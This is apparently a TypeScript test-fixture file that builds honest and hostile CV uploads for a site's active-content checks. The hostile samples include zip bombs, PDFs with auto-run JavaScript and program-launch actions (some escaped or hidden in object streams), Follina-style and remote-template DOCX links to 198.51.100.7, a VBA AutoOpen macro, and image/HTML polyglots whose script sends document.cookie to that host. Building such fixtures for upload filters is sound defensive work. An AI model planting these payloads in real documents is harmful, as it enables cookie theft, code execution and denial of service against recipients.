import { zipSync, zlibSync } from 'fflate';

/**
 * Files built in the tests, honest and hostile: a CV as each program writes it, and each way
 * of dressing something else up as one. Nothing is read from disk.
 */

const encode = (text: string) => new TextEncoder().encode(text);

export function concat(...parts: Uint8Array[]): Uint8Array<ArrayBuffer> {
  const all = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let at = 0;
  for (const part of parts) {
    all.set(part, at);
    at += part.length;
  }
  return all;
}

/**
 * A one-page PDF with a correct cross-reference table and trailer; `size` pads it (inside a
 * stream object, as a scanned page would be) to about that many bytes.
 */
export function pdfBytes(size = 0): Uint8Array<ArrayBuffer> {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
  ];
  const padding = Math.max(0, size - 700);
  let body = '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  offsets.push(body.length);
  const streamHead = `4 0 obj\n<< /Length ${padding} >>\nstream\n`;
  const streamTail = '\nendstream\nendobj\n';
  const xrefAt = body.length + streamHead.length + padding + streamTail.length;
  const xref = `xref\n0 5\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  const tail = `${xref}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  // Latin-1 bytes, so the offsets counted in characters are offsets in bytes.
  const latin1 = (text: string) => Uint8Array.from(text, (char) => char.charCodeAt(0));
  return concat(latin1(body + streamHead), new Uint8Array(padding).fill(0x41), latin1(streamTail + tail));
}

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const MACRO_CONTENT_TYPES = CONTENT_TYPES.replace(
  'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
  'application/vnd.ms-word.document.macroEnabled.main+xml',
);
const DOCUMENT = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Curriculum vitae</w:t></w:r></w:p></w:body></w:document>`;

/** A Word document: its content types and main part, plus any other entries given. */
export function docxBytes(extra: Record<string, Uint8Array> = {}, contentTypes = CONTENT_TYPES): Uint8Array<ArrayBuffer> {
  return concat(zipSync({ '[Content_Types].xml': encode(contentTypes), 'word/document.xml': encode(DOCUMENT), ...extra }));
}

/** A DOCX with a VBA project, as Word saves a document with macros (a .docm renamed). */
export function docxWithMacros(): Uint8Array<ArrayBuffer> {
  return docxBytes({ 'word/vbaProject.bin': Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1) }, MACRO_CONTENT_TYPES);
}

/** An OpenDocument text: the uncompressed `mimetype` entry first. */
export function odtBytes(extra: Record<string, Uint8Array> = {}): Uint8Array<ArrayBuffer> {
  return concat(
    zipSync({
      mimetype: [encode('application/vnd.oasis.opendocument.text'), { level: 0 }],
      'content.xml': encode(
        '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
      ),
      'META-INF/manifest.xml': encode('<?xml version="1.0"?><manifest:manifest/>'),
      ...extra,
    }),
  );
}

/**
 * Raw DEFLATE of `length` zeros, written by hand in one fixed-Huffman block: a literal 0, then
 * matches of 258 bytes at distance 1 (13 bits each, about 160 to 1). Compressing that many
 * zeros with a real compressor would take the test seconds per hundred megabytes.
 */
export function deflatedZeros(length: number): Uint8Array {
  const matches = Math.floor((length - 1) / 258);
  const rest = length - 1 - matches * 258;
  const out = new Uint8Array(Math.ceil((3 + 8 + (matches + 1) * 13 + 8 * rest + 7 + 7) / 8) + 1);
  let bit = 0;
  const put = (value: number, count: number) => {
    for (let index = 0; index < count; index++, bit++)
      if ((value >> index) & 1) out[bit >> 3] = (out[bit >> 3] as number) | (1 << (bit & 7));
  };
  // Huffman codes go most significant bit first: reverse them into the LSB-first stream.
  const code = (value: number, count: number) => {
    let reversed = 0;
    for (let index = 0; index < count; index++) reversed |= ((value >> index) & 1) << (count - 1 - index);
    put(reversed, count);
  };
  put(1, 1); // BFINAL
  put(1, 2); // BTYPE 01: fixed Huffman
  const literalZero = () => code(0x30, 8); // literal 0: 00110000
  literalZero();
  for (let index = 0; index < matches; index++) {
    code(0b11000101, 8); // length code 285: 258 bytes
    code(0, 5); // distance code 0: distance 1
  }
  for (let index = 0; index < rest; index++) literalZero();
  code(0, 7); // end of block (256)
  return out.subarray(0, Math.ceil(bit / 8));
}

/** One entry of a hand-built ZIP; the optional fields make it hostile or unusual. */
export type ZipEntry = {
  name: string;
  /** 0 stored, 8 deflated; anything else is written as given. */
  method: number;
  data: Uint8Array;
  size: number;
  /** The size the central directory claims, when it lies. */
  declaredSize?: number;
  /** General-purpose flags (bit 0 encrypted, bit 3 data descriptor, bit 11 UTF-8 name). */
  flags?: number;
  /** The local header's name, when it differs from the directory's. */
  localName?: string;
  /** Where the directory says the local header is, when it lies (overlapping entries). */
  localOffset?: number;
};

/**
 * A ZIP built by hand around parts already compressed (method 8) or stored (method 0); CRCs are
 * left 0. With flag bit 3 the local sizes are 0 and a signed data descriptor follows the data,
 * as streaming writers do. `zip64` marks the end record as a ZIP64 archive's (0xffff entries).
 */
export function zipOf(entries: ZipEntry[], { comment = '', zip64 = false } = {}): Uint8Array<ArrayBuffer> {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = encode(entry.name);
    const localName = encode(entry.localName ?? entry.name);
    const flags = entry.flags ?? 0;
    const descriptor = (flags & 0x0008) !== 0;
    const local = new DataView(new ArrayBuffer(30));
    local.setUint32(0, 0x04034b50, true);
    local.setUint16(4, 20, true);
    local.setUint16(6, flags, true);
    local.setUint16(8, entry.method, true);
    local.setUint32(18, descriptor ? 0 : entry.data.length, true);
    local.setUint32(22, descriptor ? 0 : entry.size, true);
    local.setUint16(26, localName.length, true);
    const central = new DataView(new ArrayBuffer(46));
    central.setUint32(0, 0x02014b50, true);
    central.setUint16(4, 20, true);
    central.setUint16(6, 20, true);
    central.setUint16(8, flags, true);
    central.setUint16(10, entry.method, true);
    central.setUint32(20, entry.data.length, true);
    central.setUint32(24, entry.declaredSize ?? entry.size, true);
    central.setUint16(28, name.length, true);
    central.setUint32(42, entry.localOffset ?? offset, true);
    const trailer = new DataView(new ArrayBuffer(descriptor ? 16 : 0));
    if (descriptor) {
      trailer.setUint32(0, 0x08074b50, true);
      trailer.setUint32(8, entry.data.length, true);
      trailer.setUint32(12, entry.size, true);
    }
    locals.push(new Uint8Array(local.buffer), localName, entry.data, new Uint8Array(trailer.buffer));
    centrals.push(new Uint8Array(central.buffer), name);
    offset += 30 + localName.length + entry.data.length + trailer.byteLength;
  }
  const directory = concat(...centrals);
  const note = encode(comment);
  const end = new DataView(new ArrayBuffer(22));
  end.setUint32(0, 0x06054b50, true);
  end.setUint16(8, zip64 ? 0xffff : entries.length, true);
  end.setUint16(10, zip64 ? 0xffff : entries.length, true);
  end.setUint32(12, directory.length, true);
  end.setUint32(16, offset, true);
  end.setUint16(20, note.length, true);
  return concat(...locals, directory, new Uint8Array(end.buffer), note);
}

/** A DOCX's two parts, stored, for building variants with `zipOf`. */
export function docxParts(): ZipEntry[] {
  return [
    { name: '[Content_Types].xml', method: 0, data: encode(CONTENT_TYPES), size: encode(CONTENT_TYPES).length },
    { name: 'word/document.xml', method: 0, data: encode(DOCUMENT), size: encode(DOCUMENT).length },
  ];
}

/**
 * A DOCX whose one picture is `unpackedMiB` of zeros. With `lie`, its central directory (and
 * local header) claim the picture is 1 KB, so only inflating it shows the truth.
 */
export function zipBomb(unpackedMiB: number, lie = false): Uint8Array<ArrayBuffer> {
  const size = unpackedMiB * 1024 * 1024;
  return zipOf([...docxParts(), { name: 'word/media/image1.png', method: 8, data: deflatedZeros(size), size: lie ? 1024 : size }]);
}

const u32 = (value: number) => Uint8Array.of(value >>> 24, (value >>> 16) & 0xff, (value >>> 8) & 0xff, value & 0xff);
const u16 = (value: number) => Uint8Array.of(value >>> 8, value & 0xff);

/** A PNG header with this size, a data chunk and the end chunk (CRCs are not checked by the site). */
export function pngBytes(width: number, height: number): Uint8Array<ArrayBuffer> {
  const chunk = (type: string, data: Uint8Array) => concat(u32(data.length), encode(type), data, u32(0));
  return concat(
    Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a),
    chunk('IHDR', concat(u32(width), u32(height), Uint8Array.of(8, 2, 0, 0, 0))),
    chunk('IDAT', Uint8Array.of(0x78, 0x9c, 0x63, 0, 0, 0, 1, 0, 1)),
    chunk('IEND', new Uint8Array()),
  );
}

/** A baseline JPEG's segments up to its frame header with this size, then scan data and the end marker. */
export function jpegBytes(width: number, height: number): Uint8Array<ArrayBuffer> {
  return concat(
    Uint8Array.of(0xff, 0xd8),
    Uint8Array.of(0xff, 0xe0, 0, 16),
    encode('JFIF\0'),
    Uint8Array.of(1, 1, 0, 0, 1, 0, 1, 0, 0),
    Uint8Array.of(0xff, 0xc0, 0, 17, 8),
    u16(height),
    u16(width),
    Uint8Array.of(3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1),
    Uint8Array.of(0xff, 0xda, 0, 12, 3, 1, 0, 2, 0x11, 3, 0x11, 0, 0x3f, 0),
    new Uint8Array(64).fill(0x55),
    Uint8Array.of(0xff, 0xd9),
  );
}

/** An HTML page with a PDF header in front, and an `%%EOF` at its end for good measure. */
export function pdfHeaderBeforeHtml(): Uint8Array<ArrayBuffer> {
  return encode(
    '%PDF-1.7\n<!doctype html><html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n',
  ) as Uint8Array<ArrayBuffer>;
}

/** A Word document that is not a ZIP: an HTML page saved with a .docx name (Word opens those too). */
export function docxNotZip(): Uint8Array<ArrayBuffer> {
  return encode(
    '<html xmlns:w="urn:schemas-microsoft-com:office:word"><body><script>alert(1)</script></body></html>',
  ) as Uint8Array<ArrayBuffer>;
}

/** A DOCX carrying a program beside the document. */
export function docxWithExecutable(): Uint8Array<ArrayBuffer> {
  return docxBytes({ 'word/embeddings/setup.exe': concat(encode('MZ'), new Uint8Array(200)) });
}

// Hostile and honest variants for the active-content checks (docs/product.md "Forms: fields and uploads").

const latin1Bytes = (text: string) => Uint8Array.from(text, (char) => char.charCodeAt(0));

/** One object of `pdfOf`: a dictionary, or a dictionary with stream data (its `/Length` is written). */
export type PdfObject = string | { dict: string; data: Uint8Array };

/**
 * A PDF of these objects (numbered from 1; the first is the catalog) with a true
 * cross-reference table; `after` is appended after `%%EOF`.
 */
export function pdfOf(objects: PdfObject[], after: Uint8Array = new Uint8Array()): Uint8Array<ArrayBuffer> {
  const parts: Uint8Array[] = [latin1Bytes('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n')];
  let length = parts[0]?.length ?? 0;
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(length);
    const piece =
      typeof object === 'string'
        ? latin1Bytes(`${index + 1} 0 obj\n${object}\nendobj\n`)
        : concat(
            latin1Bytes(`${index + 1} 0 obj\n<< ${object.dict} /Length ${object.data.length} >>\nstream\n`),
            object.data,
            latin1Bytes('\nendstream\nendobj\n'),
          );
    parts.push(piece);
    length += piece.length;
  });
  const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  parts.push(latin1Bytes(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`), after);
  return concat(...parts);
}

const PAGES = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'];

/** A program's first bytes: what an attacker attaches. */
export const executable = () => concat(encode('MZ'), new Uint8Array(62), encode('This program cannot be run in DOS mode.'));

/** A PDF that runs JavaScript when opened and carries an executable (an embedded file named setup.exe). */
export function pdfWithOpenActionScript(): Uint8Array<ArrayBuffer> {
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /EmbeddedFiles 5 0 R >> >>',
    ...PAGES,
    '<< /Type /Action /S /JavaScript /JS (this.exportDataObject\\({ cName: "setup.exe", nLaunch: 2 }\\);) >>',
    '<< /Names [(setup.exe) 6 0 R] >>',
    '<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>',
    { dict: '/Type /EmbeddedFile', data: executable() },
  ]);
}

/** The same script with its names written in `#xx` escapes, as a filter dodger writes them. */
export function pdfWithEscapedScript(): Uint8Array<ArrayBuffer> {
  return pdfOf(['<< /Type /Catalog /Pages 2 0 R /O#70enAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>', ...PAGES]);
}

/** An open action that launches a program, inside a compressed object stream: out of sight of a plain search of the bytes. */
export function pdfWithScriptInObjectStream(): Uint8Array<ArrayBuffer> {
  const header = '9 0 ';
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>',
    ...PAGES,
    {
      dict: `/Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode`,
      data: zlibSync(encode(`${header}<< /S /Launch /F (cmd.exe) >>`)),
    },
  ]);
}

/**
 * An honest PDF as current writers make it: a destination as its open action, a link to a web
 * page, and its page objects in a compressed object stream.
 */
export function pdfHonestWithObjectStream(): Uint8Array<ArrayBuffer> {
  const page =
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.linkedin.com/in/giulia) >> >>] >>';
  const header = '9 0 ';
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction [9 0 R /Fit] >>',
    '<< /Type /Pages /Kids [9 0 R] /Count 1 >>',
    { dict: `/Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode`, data: zlibSync(encode(`${header}${page}`)) },
    // Page text with the words a developer's CV has, uncompressed.
    { dict: '', data: encode('BT /F1 12 Tf 72 720 Td (Skills: HTML/CSS/JavaScript, /JS frameworks) Tj ET') },
  ]);
}

/** A PDF with a ZIP holding an executable appended after its `%%EOF`. */
export function pdfWithAppendedZip(): Uint8Array<ArrayBuffer> {
  return concat(pdfBytes(), zipSync({ 'setup.exe': executable() }));
}

const RELS_HEAD =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (...relationships: string[]) => encode(`${RELS_HEAD}${relationships.join('')}</Relationships>`);

/** Word's document relationships with links a CV has: a web profile and an e-mail address. */
export const honestDocumentRels = () =>
  rels(
    `<Relationship Id="rId1" Type="${REL}/styles" Target="styles.xml"/>`,
    `<Relationship Id="rId2" Type="${REL}/hyperlink" Target="https://www.linkedin.com/in/giulia" TargetMode="External"/>`,
    `<Relationship Id="rId3" Type="${REL}/hyperlink" Target="mailto:giulia@example.com" TargetMode="External"/>`,
    `<Relationship Id="rId4" Type="${REL}/image" Target="media/image1.png"/>`,
  );

/** A DOCX that loads its template from a web server when opened (remote template injection). */
export function docxWithRemoteTemplate(): Uint8Array<ArrayBuffer> {
  return docxBytes({
    'word/settings.xml': encode(
      '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
    ),
    'word/_rels/settings.xml.rels': rels(
      `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://198.51.100.7/template.dotm" TargetMode="External"/>`,
    ),
  });
}

/** The "Follina" pattern: an external OLE object whose target is an `mhtml:` address. */
export function docxFollina(): Uint8Array<ArrayBuffer> {
  return docxBytes({
    'word/_rels/document.xml.rels': rels(
      `<Relationship Id="rId996" Type="${REL}/oleObject" Target="mhtml:http://198.51.100.7/index.html!x-usc:http://198.51.100.7/index.html" TargetMode="External"/>`,
    ),
  });
}

/** The same external object with its attribute written in character references, as an XML parser reads it. */
export function docxExternalInEntities(): Uint8Array<ArrayBuffer> {
  return docxBytes({
    'word/_rels/document.xml.rels': rels(
      `<Relationship Id="rId1" Type="${REL}/image" Target="http://198.51.100.7/track.png" TargetMode="&#69;xternal"/>`,
    ),
  });
}

/** A DOCX with an embedded OLE package (a program wrapped in an OLE object). */
export function docxWithOlePackage(): Uint8Array<ArrayBuffer> {
  return docxBytes({
    'word/embeddings/oleObject1.bin': concat(Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1), executable()),
    'word/_rels/document.xml.rels': rels(`<Relationship Id="rId5" Type="${REL}/oleObject" Target="embeddings/oleObject1.bin"/>`),
  });
}

/** An honest DOCX: links to a web profile and an e-mail address, and a picture. */
export function docxHonest(): Uint8Array<ArrayBuffer> {
  return docxBytes({
    '_rels/.rels': rels(`<Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/>`),
    'word/_rels/document.xml.rels': honestDocumentRels(),
    'word/media/image1.png': pngBytes(400, 400),
  });
}

/** A Word 97–2003 document (OLE2 compound file) with a VBA project, as a macro dropper sends it. */
export function legacyDocWithMacros(): Uint8Array<ArrayBuffer> {
  const header = new Uint8Array(512);
  header.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  return concat(
    header,
    encode('Macros\0VBA\0_VBA_PROJECT\0ThisDocument\0Sub AutoOpen()\r\nShell "cmd /c calc"\r\nEnd Sub'),
    new Uint8Array(1024),
  );
}

const HTML = '<html><body><script>fetch("https://198.51.100.7/?c="+document.cookie)</script></body></html>';

/** PNG chunks, with the same layout `pngBytes` writes. */
const pngChunk = (type: string, data: Uint8Array) => concat(u32(data.length), encode(type), data, u32(0));

/** A PNG with an HTML page after its IEND chunk. */
export const pngWithHtmlAfterEnd = () => concat(pngBytes(400, 300), encode(HTML));

/** A PNG whose text chunk holds an HTML page; `compressed` puts it in a zTXt chunk. */
export function pngWithHtmlText(compressed = false): Uint8Array<ArrayBuffer> {
  const png = pngBytes(400, 300);
  const text = compressed
    ? pngChunk('zTXt', concat(encode('Comment\0'), Uint8Array.of(0), zlibSync(encode(HTML))))
    : pngChunk('tEXt', encode(`Comment\0${HTML}`));
  // After IHDR (8 + 25 bytes), before the data.
  return concat(png.subarray(0, 33), text, png.subarray(33));
}

/** An honest PNG with the text chunks cameras and editors write, XMP included. */
export function pngHonestWithText(): Uint8Array<ArrayBuffer> {
  const png = pngBytes(400, 300);
  const xmp =
    '<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>';
  return concat(
    png.subarray(0, 33),
    pngChunk('tEXt', encode('Software\0GIMP 2.10')),
    pngChunk('iTXt', encode(`XML:com.adobe.xmp\0\0\0\0\0${xmp}`)),
    pngChunk('zTXt', concat(encode('Comment\0'), Uint8Array.of(0), zlibSync(encode('Curriculum photo, 2025')))),
    png.subarray(33),
  );
}

/** A JPEG with an HTML page after its end marker (FF D9). */
export const jpegWithHtmlAfterEnd = () => concat(jpegBytes(800, 600), encode(HTML));

/** A JPEG whose comment segment (FF FE) holds an HTML page. */
export function jpegWithHtmlComment(): Uint8Array<ArrayBuffer> {
  const jpeg = jpegBytes(800, 600);
  const comment = encode(HTML);
  return concat(
    jpeg.subarray(0, 2),
    Uint8Array.of(0xff, 0xfe, (comment.length + 2) >> 8, (comment.length + 2) & 0xff),
    comment,
    jpeg.subarray(2),
  );
}

/** A phone's JPEG with a second picture (an HDR gain map) after the first one's end, as Multi-Picture Format writes it. */
export const jpegWithGainMap = () => concat(jpegBytes(4032, 3024), jpegBytes(1008, 756));
